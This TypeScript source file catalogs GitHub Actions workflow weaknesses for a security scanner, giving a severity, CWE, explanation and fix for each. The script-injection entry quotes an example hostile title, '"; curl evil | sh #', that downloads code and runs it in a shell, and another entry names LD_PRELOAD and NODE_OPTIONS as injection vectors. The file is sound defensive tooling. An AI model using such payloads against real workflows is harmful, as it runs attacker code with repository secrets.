// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows are written this way
/** What can be wrong with GitHub workflows and actions, in words. */
import type { Catalog } from './problem.ts';

export const WORKFLOW_PROBLEMS = {
  'workflow-script-injection': {
    severity: 'HIGH',
    category: 'injection',
    cwe: 'CWE-94',
    dimension: 'D8',
    title: 'Text of a stranger becomes part of a script: {what}',
    issue:
      'The expression is put into the script before it is read, so a title such as `"; curl evil | sh #` runs as a command with the rights of the workflow. Source: `{what}`.',
    recommendation:
      'Hand it over as a variable: `env: { VALUE: ${{ … }} }` and `"$VALUE"` (in JavaScript `process.env.VALUE`).',
  },
  'workflow-environment-injection': {
    severity: 'HIGH',
    category: 'injection',
    cwe: 'CWE-77',
    dimension: 'D8',
    title: 'Text of a stranger is written to the environment of later steps',
    issue:
      'A line break in it adds a variable such as `LD_PRELOAD` or `NODE_OPTIONS`, and later steps run what it names.',
    recommendation:
      'Use a step output and read it as a variable, or allow known values only: `[[ "$V" =~ ^[a-z0-9-]+$ ]]`.',
  },
  'workflow-input-in-script': {
    severity: 'LOW',
    category: 'injection',
    cwe: 'CWE-94',
    dimension: 'D8',
    title: 'An input becomes part of a script: {what}',
    issue:
      'Whatever a caller passes as `{what}` is read as commands; a caller that passes a title or a branch name is open.',
    recommendation: 'Hand it over as a variable: `env: { VALUE: ${{ {what} }} }` and `"$VALUE"`.',
    confidence: 'medium',
  },
  'workflow-runs-stranger-code': {
    severity: 'HIGH',
    category: 'supply-chain',
    cwe: 'CWE-829',
    dimension: 'D10',
    title: 'Code of a stranger runs with the rights of the repository',
    issue:
      'The run has secrets and a token that can write, checks out the code of the pull request, and then builds or runs it.',
    recommendation:
      'Build on `pull_request` without secrets, and let a `workflow_run` that never executes that code do the rest.',
  },
  'workflow-checks-out-stranger-code': {
    severity: 'MEDIUM',
    category: 'supply-chain',
    cwe: 'CWE-829',
    dimension: 'D10',
    title: 'Code of a stranger is checked out in a run with rights',
    issue:
      'Nothing here runs it yet, but the next step that installs, builds or lints will do so with secrets at hand.',
    recommendation:
      'Check out the base and read the change as data, or use `pull_request` with `persist-credentials: false`.',
    confidence: 'medium',
  },
  'workflow-trusts-artifact': {
    severity: 'HIGH',
    category: 'supply-chain',
    cwe: 'CWE-829',
    dimension: 'D10',
    title: 'Files made by an unprivileged run are trusted',
    issue:
      'The artifact may come from a pull request of a stranger, and what it holds is executed or put over the checkout.',
    recommendation:
      'Unpack it outside the workspace (`path: ${{ runner.temp }}/pr`), read single values and check their form.',
    confidence: 'medium',
  },
  'workflow-cache-poisoning': {
    severity: 'MEDIUM',
    category: 'supply-chain',
    cwe: 'CWE-349',
    dimension: 'D10',
    title: 'Code of a stranger can fill the cache of the main branch',
    issue: 'This run belongs to the default branch, so what it stores is restored by later runs, releases too.',
    recommendation: 'Leave out the cache in runs that handle code of pull requests.',
    confidence: 'medium',
  },
  'workflow-unpinned-action': {
    severity: 'LOW',
    category: 'supply-chain',
    cwe: 'CWE-829',
    dimension: 'D10',
    title: 'Actions of others are named by a tag that can be moved',
    issue:
      'Whoever controls these repositories can move the tag and run other code with the secrets of this workflow: {what}.',
    recommendation: 'Pin the commit and note the version: `uses: owner/name@<40 hex digits> # v4.1.0`.',
  },
  'workflow-all-permissions': {
    severity: 'MEDIUM',
    category: 'auth',
    cwe: 'CWE-732',
    dimension: 'D8',
    title: 'The token of the workflow may write everything',
    issue: 'With `write-all` every action and script of the run can push code, change releases and packages.',
    recommendation: 'Start from `permissions: { contents: read }` and add to a job what it needs.',
  },
  'workflow-default-permissions': {
    severity: 'LOW',
    category: 'auth',
    cwe: 'CWE-732',
    dimension: 'D8',
    title: 'The rights of the token are not stated',
    issue:
      'Strangers can start this workflow, and in older repositories a token without `permissions` may write everything.',
    recommendation: 'State them: `permissions: { contents: read }` at the top, more only in the job that needs it.',
    confidence: 'medium',
  },
  'workflow-prints-secret': {
    severity: 'MEDIUM',
    category: 'secrets',
    cwe: 'CWE-532',
    dimension: 'D8',
    title: 'A secret is written to the log: {what}',
    issue: 'Masking covers the exact value only; parts, encodings and multi-line values appear in the log.',
    recommendation: 'Remove the output; to test that it is set use `[ -n "$TOKEN" ]`.',
    confidence: 'medium',
  },
  'workflow-all-secrets': {
    severity: 'MEDIUM',
    category: 'secrets',
    cwe: 'CWE-522',
    dimension: 'D8',
    title: 'All secrets are handed over at once',
    issue: 'The receiver gets every secret of the repository and the organization, also those added later: {what}.',
    recommendation: 'Name the ones it needs: `secrets: { token: ${{ secrets.DEPLOY_TOKEN }} }`.',
  },
  'workflow-self-hosted-runner': {
    severity: 'LOW',
    category: 'supply-chain',
    cwe: 'CWE-829',
    dimension: 'D10',
    title: 'Pull requests run on a machine of your own',
    issue: 'If the repository is public, code of a stranger runs there and can stay there for the next run.',
    recommendation:
      'Use hosted or one-time runners for pull requests, or require approval for every outside contributor.',
    confidence: 'low',
  },
  'workflow-unsecure-commands': {
    severity: 'MEDIUM',
    category: 'injection',
    cwe: 'CWE-77',
    dimension: 'D8',
    title: 'Commands in the log may change the environment',
    issue: 'With `ACTIONS_ALLOW_UNSECURE_COMMANDS` any output of a tool that contains `::set-env` sets variables.',
    recommendation: 'Remove it and write to `$GITHUB_ENV` where a variable is meant.',
  },
  'workflow-condition-always-true': {
    severity: 'MEDIUM',
    category: 'auth',
    cwe: 'CWE-571',
    dimension: 'D8',
    title: 'The condition is always true',
    issue: 'Text outside of `${{ }}` makes the whole a string that is not empty, so the step or job always runs.',
    recommendation: 'Put everything into one expression, or leave the braces out: `if: a == b && c`.',
  },
  'workflow-spoofable-bot': {
    severity: 'LOW',
    category: 'auth',
    cwe: 'CWE-290',
    dimension: 'D8',
    title: 'The check for a bot can be evaded',
    issue:
      '`github.actor` is whoever caused the last event, not who wrote the code: a stranger can make the bot act on theirs.',
    recommendation: "Compare the author: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
    confidence: 'medium',
  },
  'workflow-uploads-credentials': {
    severity: 'MEDIUM',
    category: 'secrets',
    cwe: 'CWE-522',
    dimension: 'D8',
    title: 'The uploaded folder holds the token of the run',
    issue:
      'The checkout keeps its token in `.git/config`, and the whole workspace is uploaded for everyone to download.',
    recommendation:
      'Add `with: { persist-credentials: false }` to the checkout, or upload only the folder that is needed.',
    confidence: 'medium',
  },
} as const satisfies Catalog;
